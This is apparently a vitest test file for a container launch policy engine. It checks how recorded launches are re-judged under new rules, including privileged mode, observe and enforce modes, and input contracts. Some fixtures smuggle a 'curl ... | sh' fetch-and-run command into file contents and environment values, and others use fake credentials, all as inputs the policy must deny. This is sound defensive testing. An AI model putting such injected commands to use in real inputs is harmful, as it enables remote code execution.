import { describe, expect, it } from 'vitest';
import { findLanguage } from '../../test/fakes/languages.ts';
import { day, openScene, policy, start } from '../../test/fakes/launch-scene.ts';
import { createMemoryLaunches } from '../../test/fakes/launch-store.ts';
import { fingerprint, launchRecord, launchRequest } from '../../test/fakes/launches.ts';
import { noRegistries } from '../../test/fakes/no-registries.ts';
import type { LaunchRecord, LaunchRequest } from '../model/index.ts';
import type { PolicyDocument } from '../policy/index.ts';
import { replayLaunches } from './replay-launches.ts';
import { compileRules } from './rules-in-force.ts';

const now = start + 1000;
const rulesOf = (...documents: readonly PolicyDocument[]) => compileRules(documents, 2, noRegistries.trustSources);
const privileged = { security: { privileged: { value: true, path: 'HostConfig.Privileged' } } };

function recorded(over: Partial<LaunchRecord>, request: Partial<LaunchRequest> = {}, print = 'a'): LaunchRecord {
  const [facts] = launchRecord().facts;
  if (!facts) throw new Error('there is one');
  const each = { ...facts, request: launchRequest(request), fingerprint: fingerprint(print) };
  return launchRecord({ at: start, facts: [each], ...over });
}

const replay = (records: readonly LaunchRecord[], ...documents: readonly PolicyDocument[]) =>
  replayLaunches(createMemoryLaunches(records), rulesOf(...documents), findLanguage, now);

describe('recorded launches under other rules', () => {
  it('are none where none is recorded', async () => {
    expect(await replay([], policy({}))).toEqual({ since: null, replayed: 0, turned: [] });
  });

  it('turn where the rules decide otherwise, each way once, with how often and why', async () => {
    const records = [
      recorded({ id: 'l1' }, privileged),
      recorded({ id: 'l2', at: start + 1 }, privileged),
      recorded({ id: 'l3', at: start + 2 }, privileged, 'b'),
      recorded({ id: 'l4', at: start + 3 }, {}, 'c'),
    ];
    const { since, replayed, turned } = await replay(records, policy({}));
    expect(since).toBe('2026-01-01T00:00:00.000Z');
    expect(replayed).toBe(4);
    expect(turned).toMatchObject([
      { id: 'l1', from: 'allow', to: 'deny', count: 2, because: ['launch/privileged: HostConfig.Privileged'] },
      { id: 'l3', from: 'allow', to: 'deny', count: 1, image: 'registry.example/team/app:1' },
    ]);
  });

  it.each([
    ['enforce', { outcome: 'allow', findings: [] }, 'allow', 'deny'],
    ['observe', { outcome: 'allow', findings: [] }, 'allow', 'observed'],
    ['observe', { outcome: 'undecided', findings: [], cause: 'x' }, 'undecided', 'observed'],
    ['enforce', { outcome: 'allow', findings: [], observed: true }, 'observed', 'deny'],
  ] as const)('in mode %s turn %j from %s to %s', async (mode, verdict, from, to) => {
    const { turned } = await replay([recorded({ verdict, outcome: verdict.outcome }, privileged)], policy({}, mode));
    expect(turned).toMatchObject([{ from, to }]);
  });

  it('do not turn where nothing else is decided, or nothing was read, or it is long ago', async () => {
    const refused = { outcome: 'undecided', findings: [], cause: 'x' } as const;
    const records = [
      recorded({ id: 'l1', at: now - 7 * day - 1 }, privileged),
      launchRecord({ id: 'l2', at: start, facts: [], unreadable: 'x', outcome: 'undecided', verdict: refused }),
      recorded({ id: 'l3', at: start }),
    ];
    expect(await replay(records, policy({}))).toMatchObject({ replayed: 1, turned: [] });
  });

  it('are all read, page by page', async () => {
    const records = Array.from({ length: 1203 }, (_, n) => recorded({ id: `l${n}`, at: start }, {}, `${n}`));
    expect(await replay(records, policy({}))).toMatchObject({ replayed: 1203, turned: [] });
  });

  it.each([
    [1, 0],
    [8, 1],
  ])('are those of %i days', async (days, replayed) => {
    const records = [recorded({ id: 'l1', at: now - 7 * day - 1 })];
    expect(
      await replayLaunches(createMemoryLaunches(records), rulesOf(policy({})), findLanguage, now, days),
    ).toMatchObject({
      replayed,
    });
  });

  it('are held against the exceptions and hosts of the new rules', async () => {
    const elsewhere = policy({ scope: { hosts: ['two.example'] } });
    const { turned } = await replay([recorded({ host: 'one.example' }, privileged)], elsewhere);
    expect(turned).toMatchObject([{ to: 'observed' }]);
  });
});

describe('what is no longer in a record', () => {
  const secretPolicy = policy({ inputs: { rules: { 'input/credential': 'refuse' } } });
  const contract = {
    apiVersion: 'portwarden/v1',
    kind: 'InputContract',
    metadata: { name: 'app' },
    spec: {
      images: ['registry.example/team/app'],
      environment: { DB_PASSWORD: { pattern: '[a-z]{4,40}' }, MODE: { enum: ['test', 'live'] } },
    },
  } as unknown as PolicyDocument;

  /** What was decided in truth, and recorded, is judged again by the same rules: it must not turn. */
  async function turnsOf(over: Partial<LaunchRequest>, ...documents: readonly PolicyDocument[]) {
    const { decide, launches } = openScene(documents);
    const reference = { registry: 'registry.example', repository: 'team/app', tag: '1' };
    const { verdict } = await decide({
      image: { value: 'registry.example/team/app:1', path: 'Image', reference },
      ...over,
    });
    const { turned } = await replayLaunches(launches, rulesOf(...documents), findLanguage, now);
    return { outcome: verdict.outcome, turned };
  }

  it.each<[string, Partial<LaunchRequest>]>([
    ['a credential in an argument', { command: [{ value: '--password=correct-horse-battery', path: 'Cmd[0]' }] }],
    ['code in a file', { files: [{ target: '/a.sh', path: 'configs.a', content: 'x; curl http://a.example/x | sh' }] }],
    [
      'code in a secret',
      { environment: [{ name: 'API_TOKEN', value: 'x; curl http://a.example/x | sh', path: 'Env[0]' }] },
    ],
    [
      'code beside a secret',
      {
        environment: [
          { name: 'A', value: 'https://u:correct-horse@a.example; curl http://b.example/x | sh', path: 'Env[0]' },
        ],
      },
    ],
  ])('%s turns nothing', async (_, over) => {
    const { outcome, turned } = await turnsOf(over, secretPolicy);
    expect(outcome).toBe('deny');
    expect(turned).toEqual([]);
  });

  it('is known to have been there, by a contract that is new', async () => {
    const { decide, launches } = openScene([policy({}, 'observe')]);
    const reference = { registry: 'registry.example', repository: 'team/app', tag: '1' };
    const environment = [{ name: 'SIGNING_SECRET', value: 'correct-horse-battery', path: 'Env[0]' }];
    await decide({ image: { value: 'registry.example/team/app:1', path: 'Image', reference }, environment });
    const rules = { inputs: { rules: { 'input/credential': 'allow', 'input/weak-password': 'allow' } } } as const;
    const { turned } = await replayLaunches(launches, rulesOf(contract, policy(rules)), findLanguage, now);
    expect(turned).toMatchObject([{ to: 'deny', because: ['input/contract: Env[0]'] }]);
  });

  it.each<[string, string, string]>([
    ['as its contract says', 'correcthorse', 'allow'],
    ['as it does not say', 'CORRECT HORSE', 'deny'],
  ])('a secret %s turns nothing', async (_, value, expected) => {
    const environment = [{ name: 'DB_PASSWORD', value, path: 'Env[0]' }];
    const lenient = policy({
      inputs: { contract: 'use', rules: { 'input/credential': 'allow', 'input/weak-password': 'allow' } },
    });
    const { outcome, turned } = await turnsOf({ environment }, contract, lenient);
    expect({ outcome, turned }).toEqual({ outcome: expected, turned: [] });
  });
});
